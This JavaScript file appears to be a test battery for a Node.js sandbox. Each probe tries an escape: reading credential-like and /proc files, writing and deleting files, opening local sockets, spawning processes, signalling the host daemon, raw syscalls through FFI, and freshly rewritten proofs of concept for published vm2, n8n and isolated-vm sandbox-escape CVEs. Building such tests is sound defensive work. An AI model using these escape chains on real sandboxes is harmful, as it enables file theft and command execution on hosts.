// Attacks that a controller's handler could try. Each returns what it gained (a string, judged by the test) or throws.
// The same code runs unsandboxed as the control: an attack that gains nothing there proves nothing here.
"use strict";
const original = typeof process.getBuiltinModule === "function" ? process.getBuiltinModule : () => undefined;
const g = (name) => {
  const loaded = original.call(process, name);
  if (!loaded) throw new Error(`no module ${name}`);
  return loaded;
};
const once = (work) => new Promise(work);
const text = (value) => (Buffer.isBuffer(value) ? value.toString("latin1") : String(value));

const probes = {};

// --- reading files: every way of reading, for every kind of place
const readers = {
  readFileSync: (path) => g("fs").readFileSync(path, "latin1"),
  readFile: (path) =>
    once((ok, no) => g("fs").readFile(path, "latin1", (error, data) => (error ? no(error) : ok(data)))),
  promises: (path) => g("fs/promises").readFile(path, "latin1"),
  openRead: (path) => {
    const fs = g("fs");
    const fd = fs.openSync(path, "r");
    const buffer = Buffer.alloc(4096);
    return buffer.toString("latin1", 0, fs.readSync(fd, buffer, 0, 4096, null));
  },
  readv: (path) => {
    const fs = g("fs");
    const buffer = Buffer.alloc(4096);
    const n = fs.readvSync(fs.openSync(path, "r"), [buffer], 0);
    return buffer.toString("latin1", 0, n);
  },
  stream: (path) =>
    once((ok, no) => {
      let all = "";
      g("fs")
        .createReadStream(path, "latin1")
        .on("data", (d) => (all += d))
        .on("end", () => ok(all))
        .on("error", no);
    }),
  blob: async (path) => (await g("fs").openAsBlob(path)).text(),
  handle: async (path) => {
    const handle = await g("fs/promises").open(path);
    return text((await handle.read(Buffer.alloc(4096), 0, 4096, null)).buffer);
  },
  lines: async (path) => {
    const handle = await g("fs/promises").open(path);
    for await (const line of handle.readLines()) return line;
    return "";
  },
  fileUrl: (path) => g("fs").readFileSync(new URL(`file://${path}`), "latin1"),
  dotdot: (path) => g("fs").readFileSync(`/usr/../${path}`, "latin1"),
  buffer: (path) => g("fs").readFileSync(Buffer.from(path), "latin1"),
  binding: (path) => {
    const b = process.binding("fs");
    const fd = b.open(path, 0, 0o666);
    const buffer = Buffer.alloc(4096);
    return buffer.toString("latin1", 0, b.read(fd, buffer, 0, 4096, -1));
  },
  fetchFile: async (path) => (await fetch(`file://${path}`)).text(),
  envFile: (path) => {
    process.loadEnvFile(path);
    return JSON.stringify(process.env);
  },
  createRequire: (path) => JSON.stringify(g("module").createRequire("/")(path)),
  esmImport: async (path) => JSON.stringify(await new Function("p", "return import(p)")(path)),
  vmImport: async (path) =>
    JSON.stringify(
      await g("vm").runInThisContext(`import(${JSON.stringify(path)})`, {
        importModuleDynamically: g("vm").constants.USE_MAIN_CONTEXT_DEFAULT_LOADER,
      }),
    ),
};
for (const [how, read] of Object.entries(readers))
  for (const place of ["canary", "symlink", "environ", "cmdline", "passwd"])
    probes[`read ${place} by ${how}`] = (i) => read(i.paths[place]);

const lookers = {
  stat: (path) => `size ${g("fs").statSync(path).size}`,
  lstat: (path) => `size ${g("fs").lstatSync(path).size}`,
  readdir: (path) => g("fs").readdirSync(g("path").dirname(path)).join(),
  opendir: (path) => g("fs").opendirSync(g("path").dirname(path)).readSync().name,
  access: (path) => {
    g("fs").accessSync(path);
    return "reachable";
  },
  exists: (path) => {
    if (!g("fs").existsSync(path)) throw new Error("absent");
    return "exists";
  },
  realpath: (path) => g("fs").realpathSync(path),
  readlink: () => g("fs").readlinkSync("/proc/self/exe"),
  statfs: (path) => `type ${g("fs").statfsSync(path).type}`,
  glob: (path) =>
    g("fs")
      .globSync(`${g("path").dirname(path)}/*`)
      .join() || Promise.reject(new Error("nothing")),
  watch: (path) => {
    g("fs").watch(path).close();
    return "watching";
  },
  copy: (path, i) => {
    g("fs").copyFileSync(path, i.paths.out);
    return "copied";
  },
};
for (const [how, look] of Object.entries(lookers)) probes[`look by ${how}`] = (i) => look(i.paths.canary, i);
probes["look at own memory map"] = () => g("fs").readFileSync("/proc/self/maps", "latin1").slice(0, 80);
probes["open own memory"] = () => `fd ${g("fs").openSync("/proc/self/mem", "r+")}`;
probes["list processes"] = () =>
  g("fs")
    .readdirSync("/proc")
    .filter((name) => /^\d+$/.test(name))
    .join();
probes["list descriptors"] = () => g("fs").readdirSync("/proc/self/fd").join();

// --- writing
const writers = {
  writeFileSync: (path) => g("fs").writeFileSync(path, "x"),
  appendFileSync: (path) => g("fs").appendFileSync(path, "x"),
  promises: (path) => g("fs/promises").writeFile(path, "x"),
  stream: (path) => once((ok, no) => g("fs").createWriteStream(path).on("error", no).end("x", ok)),
  open: (path) => g("fs").openSync(path, "w"),
  mkdir: (path) => g("fs").mkdirSync(path),
  mkdtemp: (path) => g("fs").mkdirSync(`${g("fs").mkdtempSync(path)}`.replace(/.{6}$/, "")),
  symlink: (path) => g("fs").symlinkSync("/etc/passwd", path),
  cp: (path, i) => g("fs").cpSync(i.paths.canary, path),
  link: (path, i) => g("fs").linkSync(i.paths.canary, path),
  sqlite: (path) => new (g("node:sqlite").DatabaseSync)(path).exec("create table t(a)"),
  sqliteAttach: (path) =>
    new (g("node:sqlite").DatabaseSync)(":memory:").exec(`attach '${path}' as o; create table o.t(a)`),
  sqliteVacuum: (path) => {
    const d = new (g("node:sqlite").DatabaseSync)(":memory:");
    d.exec("create table t(a)");
    d.exec(`vacuum into '${path}'`);
  },
  heapSnapshot: (path) => g("v8").writeHeapSnapshot(path),
  report: (path) => process.report.writeReport(path),
};
for (const [how, write] of Object.entries(writers)) probes[`write by ${how}`] = (i) => write(i.paths.out, i);
const changers = {
  unlink: (path) => g("fs").unlinkSync(path),
  rm: (path) => g("fs").rmSync(path),
  rename: (path) => g("fs").renameSync(path, `${path}.moved`),
  truncate: (path) => g("fs").truncateSync(path, 0),
  chmod: (path) => g("fs").chmodSync(path, 0o777),
  utimes: (path) => g("fs").utimesSync(path, 1, 1),
  overwrite: (path) => g("fs").writeFileSync(path, "overwritten"),
};
for (const [how, change] of Object.entries(changers))
  probes[`change by ${how}`] = (i) => {
    change(i.paths.victim);
    return "changed";
  };

// --- network
const tcp = (options) =>
  once((ok, no) =>
    g("net")
      .connect(options)
      .on("connect", function () {
        this.end("hit");
        ok("connected");
      })
      .on("error", no),
  );
probes["tcp 127.0.0.1"] = (i) => tcp({ port: i.port, host: "127.0.0.1" });
probes["tcp localhost"] = (i) => tcp({ port: i.port, host: "localhost" });
probes["tcp mapped"] = (i) => tcp({ port: i.port, host: "::ffff:127.0.0.1" });
probes["tcp lookup of its own"] = (i) =>
  tcp({ port: i.port, host: "x", lookup: (_h, _o, cb) => cb(null, [{ address: "127.0.0.1", family: 4 }]) });
probes["unix socket"] = (i) => tcp({ path: i.paths.socket });
probes["abstract socket"] = (i) => tcp({ path: `\0${i.abstract}` });
probes["tls"] = (i) =>
  once((ok, no) =>
    g("tls")
      .connect({ port: i.port, host: "127.0.0.1", rejectUnauthorized: false })
      .on("connect", () => ok("connected"))
      .on("error", no),
  );
probes["http"] = (i) =>
  once((ok, no) =>
    g("http")
      .get({ port: i.port, host: "127.0.0.1" }, (r) => ok(`status ${r.statusCode}`))
      .on("error", no),
  );
probes["http over unix"] = (i) =>
  once((ok, no) =>
    g("http")
      .get({ socketPath: i.paths.socket }, (r) => ok(`status ${r.statusCode}`))
      .on("error", no),
  );
probes["http agent"] = (i) =>
  once((ok, no) =>
    new (g("http").Agent)()
      .createConnection({ port: i.port, host: "127.0.0.1" })
      .on("connect", () => ok("connected"))
      .on("error", no),
  );
probes["http2"] = (i) =>
  once((ok, no) =>
    g("http2")
      .connect(`http://127.0.0.1:${i.port}`)
      .on("connect", () => ok("connected"))
      .on("error", no),
  );
probes["fetch"] = async (i) => `status ${(await fetch(`http://127.0.0.1:${i.port}/`)).status}`;
probes["fetch decimal"] = async (i) => `status ${(await fetch(`http://2130706433:${i.port}/`)).status}`;
probes["fetch octal"] = async (i) => `status ${(await fetch(`http://0177.0.0.1:${i.port}/`)).status}`;
probes["fetch mapped"] = async (i) => `status ${(await fetch(`http://[::ffff:127.0.0.1]:${i.port}/`)).status}`;
probes["websocket"] = (i) =>
  once((ok, no) => {
    const w = new WebSocket(`ws://127.0.0.1:${i.port}/`);
    w.onopen = () => ok("open");
    w.onerror = (e) => (i.hits ? no(e) : no(e.error ?? new Error("refused")));
  });
probes["udp"] = (i) =>
  once((ok, no) => {
    const s = g("dgram").createSocket("udp4");
    s.on("error", no);
    s.send("x", i.udp, "127.0.0.1", (error) => (error ? no(error) : ok("sent")));
  });
probes["listen tcp"] = () =>
  once((ok, no) =>
    g("net")
      .createServer()
      .listen(0, "127.0.0.1", function () {
        ok("listening");
        this.close();
      })
      .on("error", no),
  );
probes["listen unix"] = (i) =>
  once((ok, no) =>
    g("net")
      .createServer()
      .listen(i.paths.out, function () {
        ok("listening");
        this.close();
      })
      .on("error", no),
  );
probes["listen http"] = () =>
  once((ok, no) =>
    g("http")
      .createServer()
      .listen(0, function () {
        ok("listening");
        this.close();
      })
      .on("error", no),
  );
probes["dns lookup"] = () =>
  once((ok, no) => g("dns").lookup("localhost", (error, address) => (error ? no(error) : ok(address))));
probes["dns lookup promises"] = async () => (await g("dns/promises").lookup("localhost")).address;
probes["dns service"] = () =>
  once((ok, no) => g("dns").lookupService("127.0.0.1", 22, (error, name) => (error ? no(error) : ok(name))));
probes["inspector open"] = () => {
  g("inspector").open(0);
  const url = g("inspector").url();
  g("inspector").close();
  return url;
};
probes["inspector session"] = () =>
  once((ok, no) => {
    const s = new (g("inspector").Session)();
    s.connect();
    s.post("Runtime.evaluate", { expression: "1+1" }, (error, r) =>
      error ? no(error) : ok(`evaluated ${r.result.value}`),
    );
  });
probes["tcp binding"] = (i) => {
  const t = process.binding("tcp_wrap");
  const h = new t.TCP(t.constants.SOCKET);
  const r = new t.TCPConnectWrap();
  r.oncomplete = () => {};
  const rc = h.connect(r, "127.0.0.1", i.port);
  if (rc !== 0) throw new Error(`rc ${rc}`);
  return "connecting";
};
probes["pipe binding"] = (i) => {
  const t = process.binding("pipe_wrap");
  const h = new t.Pipe(t.constants.SOCKET);
  const r = new t.PipeConnectWrap();
  r.oncomplete = () => {};
  const rc = h.connect(r, i.paths.socket);
  return once((ok, no) => {
    r.oncomplete = (status) => (status === 0 ? ok("connected") : no(new Error(`status ${status} ${rc}`)));
  });
};

// --- processes and threads
const child = () => g("child_process");
probes["spawnSync"] = () => {
  const r = child().spawnSync("/bin/echo", ["ran"]);
  if (r.error) throw r.error;
  return text(r.stdout);
};
probes["spawnSync shell"] = () => {
  const r = child().spawnSync("echo ran", { shell: true });
  if (r.error) throw r.error;
  return text(r.stdout);
};
probes["execSync"] = () => text(child().execSync("echo ran"));
probes["execFileSync"] = () => text(child().execFileSync("/bin/echo", ["ran"]));
probes["spawn"] = () =>
  once((ok, no) =>
    child()
      .spawn("/bin/true")
      .on("error", no)
      .on("exit", (code) => ok(`exit ${code}`)),
  );
probes["exec"] = () => once((ok, no) => child().exec("echo ran", (error, out) => (error ? no(error) : ok(out))));
probes["spawn node"] = () => {
  const r = child().spawnSync(i_node(), ["-e", "console.log('ran')"]);
  if (r.error) throw r.error;
  return text(r.stdout);
};
probes["fork"] = (i) =>
  once((ok, no) =>
    child()
      .fork(i.paths.script, { execPath: i.node, stdio: "ignore" })
      .on("error", no)
      .on("exit", (code) => ok(`exit ${code}`)),
  );
probes["spawn binding"] = () => {
  const { Process } = process.binding("process_wrap");
  const p = new Process();
  const rc = p.spawn({ file: "/bin/true", args: ["true"], stdio: [] });
  if (rc !== 0) throw new Error(`rc ${rc}`);
  return "spawned";
};
probes["worker"] = () =>
  once((ok, no) =>
    new (g("worker_threads").Worker)("require('worker_threads').parentPort.postMessage(1)", { eval: true })
      .on("message", () => ok("worker ran"))
      .on("error", no),
  );
probes["worker without permission"] = () =>
  once((ok, no) =>
    new (g("worker_threads").Worker)("process.exit(0)", { eval: true, execArgv: [], env: {} })
      .on("exit", (code) => (code === 0 ? ok("worker ran") : no(new Error(`exit ${code}`))))
      .on("error", no),
  );
probes["cluster"] = (i) =>
  once((ok, no) => {
    const c = g("cluster");
    c.setupPrimary({ exec: i.paths.script, silent: true });
    c.fork()
      .on("online", function () {
        this.kill();
        ok("online");
      })
      .on("error", no);
  });
let i_node = () => "node";

// --- signals
for (const signal of ["SIGUSR2", "SIGWINCH", 0])
  probes[`signal ${signal} to the daemon`] = (i) => {
    process.kill(i.parent, signal);
    return "signalled";
  };
probes["signal binding to the daemon"] = (i) => {
  const rc = process._kill(i.parent, 0);
  if (rc !== 0) throw new Error(`rc ${rc}`);
  return "signalled";
};
probes["debug the daemon"] = (i) => {
  process._debugProcess(i.bystander);
  return "signalled";
};

// --- the runtime itself
probes["native syntax"] = () => {
  g("v8").setFlagsFromString("--allow-natives-syntax");
  return `status ${new Function("return %GetOptimizationStatus(()=>1)")()}`;
};
probes["dlopen"] = (i) => {
  const m = { exports: {} };
  process.dlopen(m, i.addon);
  return `loaded ${Object.keys(m.exports).length}`;
};
probes["wasi"] = () => {
  const w = new (g("wasi").WASI)({ version: "preview1", preopens: { "/": "/" } });
  return `wasi ${typeof w.wasiImport.path_open}`;
};
probes["sqlite extension"] = (i) => {
  const d = new (g("node:sqlite").DatabaseSync)(":memory:", { allowExtension: true });
  try {
    d.loadExtension(i.addon);
  } catch (error) {
    if (/undefined symbol|entry point|sqlite3_\w+_init/.test(error.message)) return "loaded";
    throw error;
  }
  return "loaded";
};
probes["environment"] = () => {
  const all = JSON.stringify(process.env);
  if (!all.includes("canary")) throw new Error("clean");
  return all;
};
probes["environment by report"] = () => {
  const all = JSON.stringify(process.report.getReport().environmentVariables ?? {});
  if (!all.includes("canary")) throw new Error("clean");
  return all;
};
probes["report"] = () => `${process.report.getReport().header.nodejsVersion}`;
probes["active handles"] = () => {
  const h = process._getActiveHandles();
  if (h.length === 0) throw new Error("none");
  return `${h.length} handles`;
};
probes["chdir"] = () => {
  process.chdir("/tmp");
  return process.cwd() === "/tmp" ? "moved" : Promise.reject(new Error("stayed"));
};
probes["umask"] = () => `umask ${process.umask(0)}`;
probes["exit"] = () => {
  const { exit } = process;
  exit.call(process, 7);
  return "alive";
};
probes["abort"] = () => process.abort();
probes["execve"] = () => {
  process.execve("/bin/true", ["true"], {});
  return "replaced";
};
probes["main module require"] = (i) => {
  const m = g("module");
  return text(m._load("fs", null, true).readFileSync(i.paths.canary));
};
probes["constructor escape"] = (i) => text(this_().process.getBuiltinModule("fs").readFileSync(i.paths.canary));
probes["callsite escape"] = (i) => {
  let found;
  Error.prepareStackTrace = (_e, sites) => {
    for (const s of sites) {
      const t = s.getThis?.();
      if (t?.process) found = t.process;
    }
    return "";
  };
  void new Error().stack;
  Error.prepareStackTrace = undefined;
  return text((found ?? globalThis.process).getBuiltinModule("fs").readFileSync(i.paths.canary));
};
probes["emitter escape"] = (i) => {
  const E = g("events");
  const emit = E.prototype.emit;
  let real;
  E.prototype.emit = function (...a) {
    if (this !== globalThis.process && this?.reallyExit) real = this;
    return emit.apply(this, a);
  };
  process.emitWarning("x");
  E.prototype.emit = emit;
  return text((real ?? process).getBuiltinModule("fs").readFileSync(i.paths.canary));
};
probes["proxy trap escape"] = (i) => {
  const p = new Proxy(() => {}, { apply: (_t, self) => self });
  const real = Reflect.apply(p, globalThis, []);
  return text(real.process.getBuiltinModule("fs").readFileSync(i.paths.canary));
};
probes["vm escape"] = (i) =>
  text(g("vm").runInThisContext("process").getBuiltinModule("fs").readFileSync(i.paths.canary));
probes["vm new context escape"] = (i) =>
  text(
    g("vm")
      .runInNewContext("o.constructor.constructor('return process')()", { o: {} })
      .getBuiltinModule("fs")
      .readFileSync(i.paths.canary),
  );
probes["async hook resource"] = () => {
  const resource = g("async_hooks").executionAsyncResource();
  if (!resource || Object.keys(resource).length === 0) {
    let any;
    const hook = g("async_hooks")
      .createHook({ init: (_a, _t, _r, r) => (any = r) })
      .enable();
    setTimeout(() => {}, 0);
    hook.disable();
    if (!any) throw new Error("none");
    return "a resource";
  }
  return "a resource";
};
const this_ = () => Function("return this")();

// --- published escapes from sandboxes inside one process (vm2, n8n, isolated-vm, expression evaluators), written afresh: each finds its way to
// an object of the realm that holds `process`, then tries with it whatever could read a file or start a program
const spoils = async (found, i) => {
  const holder = found?.process ?? found;
  let last = new Error("no process");
  for (const attempt of [
    () => holder.getBuiltinModule("fs").readFileSync(i.paths.canary),
    () => holder.getBuiltinModule("child_process").execFileSync("/bin/cat", [i.paths.canary]),
    () => holder.mainModule.require("fs").readFileSync(i.paths.canary),
    () => holder.mainModule.constructor._load("child_process").execSync(`cat ${i.paths.canary}`),
    () => holder.binding("fs").internalModuleReadJSON(i.paths.canary),
    () => holder.getBuiltinModule("module").createRequire("/")("fs").readFileSync(i.paths.canary),
  ])
    try {
      return text(attempt());
    } catch (error) {
      last = error;
    }
  throw last;
};
const GET = "return process";
const exhaust = () => {
  (function deeper() {
    new Error().stack;
    deeper();
  })();
};
const pocs = {
  "CVE-2019-10761 stack exhaustion in a host function": () => {
    const { write } = Buffer.prototype;
    const fake = { length: 10, utf8Write() {} };
    const dig = (n) => {
      let depth = 0;
      try {
        depth = dig(n + 1);
      } catch {}
      if (typeof depth !== "number") return depth;
      if (depth !== n) return depth + 1;
      try {
        write.call(fake);
      } catch (error) {
        return error;
      }
      return null;
    };
    const error = dig(1);
    return (error?.constructor ?? Error).constructor(GET)();
  },
  "CVE-2022-36067 a replaced Error prepares stacks": () => {
    const before = globalThis.Error;
    const keep = new WeakMap();
    try {
      globalThis.Error = { prepareStackTrace: (_e, sites) => keep.set(sites, sites) };
      const caught = before.prepareStackTrace;
      before.prepareStackTrace = (_e, sites) => sites;
      const sites = new before().stack;
      before.prepareStackTrace = caught;
      return sites.constructor.constructor(GET)();
    } finally {
      globalThis.Error = before;
    }
  },
  "CVE-2023-29017 a host's stack preparer after an async error": async () => {
    const before = Error.prepareStackTrace;
    let found;
    Error.prepareStackTrace = (_e, sites) => {
      found = sites.constructor.constructor(GET)();
      return "";
    };
    await (async () => void (await import("magic:nowhere")))().catch((error) => error.stack);
    Error.prepareStackTrace = before;
    return found;
  },
  "CVE-2023-29199 an exception that the transformer misses": () => {
    const error = new RangeError();
    error.name = { toString: new Proxy(() => "", { apply: (_t, _s, list) => Object.assign(error, { list }) && "" }) };
    try {
      String(error.stack);
      `${error}`;
    } catch {}
    return (error.list ?? []).constructor.constructor(GET)();
  },
  "CVE-2023-30547 a proxy's getPrototypeOf throws the host's error": () => {
    const proxy = new Proxy({}, { getPrototypeOf: exhaust });
    try {
      proxy instanceof Object;
    } catch (error) {
      return error.constructor.constructor(GET)();
    }
  },
  "CVE-2023-32314 a name that is a proxied function": () => {
    const error = new Error();
    let found;
    error.name = {
      toString: new Proxy(() => "", {
        apply(_target, _self, list) {
          found = list.constructor.constructor(GET)();
          return "";
        },
      }),
    };
    `${error}`;
    return found;
  },
  "CVE-2023-37466 a promise's species": () =>
    once((ok, no) => {
      const promise = (async () => exhaust())();
      promise.constructor = {
        [Symbol.species]: class {
          constructor(work) {
            work(
              () => {},
              (error) => ok(error.constructor.constructor(GET)()),
            );
          }
        },
      };
      promise.then();
      promise.catch?.(no);
    }),
  "CVE-2023-37903 the inspect function of a custom inspector": () =>
    once((ok) => {
      const bait = {
        [Symbol.for("nodejs.util.inspect.custom")]: (_depth, _options, inspect) => {
          ok(inspect.constructor(GET)());
          return "";
        },
      };
      WebAssembly.compileStreaming(bait).catch(() => {});
      g("util").inspect(bait);
    }),
  "CVE-2026-22709 an async function's own promise": async () => {
    const error = new Error();
    error.name = Symbol();
    return await (async () => error.stack)().then(
      () => error.constructor.constructor(GET)(),
      (thrown) => thrown.constructor.constructor(GET)(),
    );
  },
  "CVE-2025-68613 this of a sloppy function": () => Function("return this")(),
  "CVE-2026-25049 a destructured constructor": () => {
    const { constructor: make } = () => {};
    return make(GET)();
  },
  "CVE-2026-1470 with and a masked constructor": () =>
    Function("with ({ constructor() {} }) { return (() => {}).constructor('return process')(); }")(),
  "a constructor behind a template": () => (() => {})[`constr${"uctor"}`](`${GET}`)(),
  "a generator's constructor": () => function* () {}.constructor(GET)().next().value,
  "an async function's constructor": () => (async () => {}).constructor(GET)(),
  "an async generator's constructor": async () => (await async function* () {}.constructor(GET)().next()).value,
  "an evaluator's prototype chain": () => Object.getPrototypeOf({}).constructor.constructor(GET)(),
  "a descriptor by call of call": () =>
    "".sub.call
      .call({}.constructor.getOwnPropertyDescriptor, {}, Object.getPrototypeOf("".sub), "constructor")
      .value(GET)(),
  "a bound reviver": () => JSON.parse('{"a":1}', Function("k", "v", "return k ? process : v.a")),
  "a sort comparator": () => {
    let found;
    [2, 1].sort(Function("set", "return (a, b) => (set(process), a - b)")((value) => (found = value)));
    return found;
  },
  "isolated-vm CVE-2021-21413 a function of the host": ({ request }) => request.log.info.constructor(GET)(),
  "isolated-vm CVE-2022-39266 cached code": () => {
    const { Script } = g("vm");
    const cachedData = new Script(GET.slice(7)).createCachedData();
    return new Script(GET.slice(7), { cachedData }).runInThisContext();
  },
  "a getter of the host's request": ({ request }) =>
    Object.getOwnPropertyDescriptor(request, "signal").get.constructor(GET)(),
  "the host's promise": ({ request }) => request.kv.get("x").catch((error) => error.constructor.constructor(GET)()),
  "the loader's require": () => {
    const found = require("node:process");
    return found;
  },
  "the module's constructor": () => ({
    mainModule: {
      require: (name) => module.constructor._load?.(name) ?? require(name),
      constructor: module.constructor,
    },
  }),
};
for (const [name, find] of Object.entries(pocs)) probes[`published: ${name}`] = async (i) => spoils(await find(i), i);

// --- raw system calls, where the foreign function interface can be had
let loaded = null;
async function kernel() {
  if (loaded) return loaded;
  const ffi = original.call(process, "node:ffi") ?? (await import("node:ffi"));
  const { functions } = ffi.dlopen(null, {
    syscall: { arguments: ["int64", "uint64", "uint64", "uint64", "uint64", "uint64", "uint64"], return: "int64" },
    __errno_location: { arguments: [], return: "pointer" },
  });
  const word = (value) => (Buffer.isBuffer(value) ? ffi.getRawPointer(value) : BigInt(value ?? 0));
  loaded = (number, ...args) => {
    const result = Number(functions.syscall(BigInt(number), ...[0, 1, 2, 3, 4, 5].map((at) => word(args[at]))));
    if (result < 0)
      throw Object.assign(new Error(`errno ${ffi.getInt32(functions.__errno_location())}`), { errno: true });
    return result;
  };
  return loaded;
}
const z = (value) => Buffer.from(`${value}\0`);
const AT = 0xffffff9cn;
// x86_64 numbers; each call is one that succeeds for an ordinary process of the same user.
const calls = {
  open: (i) => [2, z(i.paths.canary), 0, 0],
  openat: (i) => [257, AT, z(i.paths.canary), 0, 0],
  openat2: (i) => [437, AT, z(i.paths.canary), Buffer.alloc(24), 24],
  creat: (i) => [85, z(i.paths.out), 0o600],
  stat: (i) => [4, z(i.paths.canary), Buffer.alloc(256)],
  lstat: (i) => [6, z(i.paths.canary), Buffer.alloc(256)],
  newfstatat: (i) => [262, AT, z(i.paths.canary), Buffer.alloc(256), 0],
  statx: (i) => [332, AT, z(i.paths.canary), 0, 0xfff, Buffer.alloc(256)],
  access: (i) => [21, z(i.paths.canary), 0],
  faccessat: (i) => [269, AT, z(i.paths.canary), 0],
  faccessat2: (i) => [439, AT, z(i.paths.canary), 0, 0],
  readlink: () => [89, z("/proc/self/exe"), Buffer.alloc(256), 255],
  readlinkat: () => [267, AT, z("/proc/self/exe"), Buffer.alloc(256), 255],
  getcwd: () => [79, Buffer.alloc(4096), 4096],
  chdir: () => [80, z("/tmp")],
  mkdir: (i) => [83, z(i.paths.out), 0o700],
  mkdirat: (i) => [258, AT, z(i.paths.out), 0o700],
  unlink: (i) => [87, z(i.paths.victim)],
  unlinkat: (i) => [263, AT, z(i.paths.victim), 0],
  rename: (i) => [82, z(i.paths.victim), z(i.paths.out)],
  renameat2: (i) => [316, AT, z(i.paths.victim), AT, z(i.paths.out), 0],
  link: (i) => [86, z(i.paths.victim), z(i.paths.out)],
  symlink: (i) => [88, z("/etc/passwd"), z(i.paths.out)],
  chmod: (i) => [90, z(i.paths.victim), 0o777],
  truncate: (i) => [76, z(i.paths.victim), 0],
  mknod: (i) => [133, z(i.paths.out), 0o10600, 0],
  inotify_init1: () => [294, 0],
  socket: () => [41, 2, 1, 0],
  "socket unix": () => [41, 1, 1, 0],
  "socket netlink": () => [41, 16, 3, 0],
  socketpair: () => [53, 1, 1, 0, Buffer.alloc(8)],
  pipe: () => [22, Buffer.alloc(8)],
  pipe2: () => [293, Buffer.alloc(8), 0],
  eventfd2: () => [290, 0, 0],
  timerfd_create: () => [283, 1, 0],
  epoll_create1: () => [291, 0],
  dup: () => [32, 2],
  dup2: () => [33, 2, 99],
  dup3: () => [292, 2, 98, 0],
  "fcntl duplicate": () => [72, 2, 0, 20],
  "kill the daemon": (i) => [62, i.parent, 0],
  "tgkill the daemon": (i) => [234, i.parent, i.parent, 0],
  "tkill the daemon": (i) => [200, i.parent, 0],
  pidfd_open: (i) => [434, i.parent, 0],
  "prlimit the daemon": (i) => [302, i.parent, 7, 0, Buffer.alloc(16)],
  "clock_gettime of the daemon": (i) => [228, ((~i.parent << 3) | 2) >>> 0, Buffer.alloc(16)],
  "clock_getres of the daemon": (i) => [229, ((~i.parent << 3) | 2) >>> 0, Buffer.alloc(16)],
  "clock_nanosleep by the daemon's time": (i) => [230, ((~i.parent << 3) | 2) >>> 0, 0, Buffer.alloc(16), 0],
  "prlimit raise": () => [302, 0, 7, Buffer.from(new BigUint64Array([64n, 64n]).buffer), 0],
  "prctl dumpable": () => [157, 4, 1],
  "prctl death signal": () => [157, 1, 0],
  "prctl keep capabilities": () => [157, 8, 0],
  setpgid: () => [109, 0, 0],
  setpriority: () => [141, 0, 0, 5],
  sched_setaffinity: () => [203, 0, 8, Buffer.from(new BigUint64Array([1n]).buffer)],
  getppid: () => [110],
  getuid: () => [102],
  "mmap a file": () => [9, 0, 4096, 1, 2, 2 ** 31, 0],
  "mmap beyond the limit, shared": () => [9, 0, 2 ** 30, 3, 0x21, -1n & 0xffffffffn, 0],
  "mmap beyond the limit, as a stack": () => [9, 0, 2 ** 30, 3, 0x122, -1n & 0xffffffffn, 0],
  memfd_create: () => [319, z("x"), 0],
  io_uring_setup: () => [425, 8, Buffer.alloc(128)],
  shmget: () => [29, 0, 4096, 0o1600],
  msgget: () => [68, 0, 0o1600],
  semget: () => [64, 0, 1, 0o1600],
  unshare: () => [272, 0x400],
  personality: () => [135, 0xffffffff],
  getpgrp: () => [111],
  sysinfo: () => [99, Buffer.alloc(256)],
  times: () => [100, Buffer.alloc(64)],
  capget: () => [125, Buffer.from(new Uint32Array([0x20080522, 0]).buffer), Buffer.alloc(24)],
  landlock_create: () => [444, 0, 0, 1],
  setuid: () => [105, process.getuid?.() ?? 0],
  ptrace: () => [101, 0, 0, 0, 0],
  process_vm_readv: (i) => [310, i.self ?? process.pid, Buffer.alloc(16), 0, Buffer.alloc(16), 0, 0],
  userfaultfd: () => [323, 1],
  keyctl: () => [250, 0, -1n & 0xffffffffn, 0],
};
for (const [name, call] of Object.entries(calls))
  probes[`syscall ${name}`] = async (i) => {
    const syscall = await kernel();
    return `returned ${syscall(...call(i))}`;
  };

module.exports = async (request) => {
  const { input } = request;
  if (input.list) return Object.keys(probes);
  i_node = () => input.node;
  let timer;
  const late = new Promise((_ok, no) => {
    timer = setTimeout(() => no(new Error("no answer")), 1200);
  });
  try {
    return { gained: text(await Promise.race([probes[input.probe]({ ...input, request }), late])).slice(0, 4000) };
  } catch (error) {
    return { refused: `${error?.code ?? ""} ${error?.message ?? error}`.slice(0, 200) };
  } finally {
    clearTimeout(timer);
  }
};
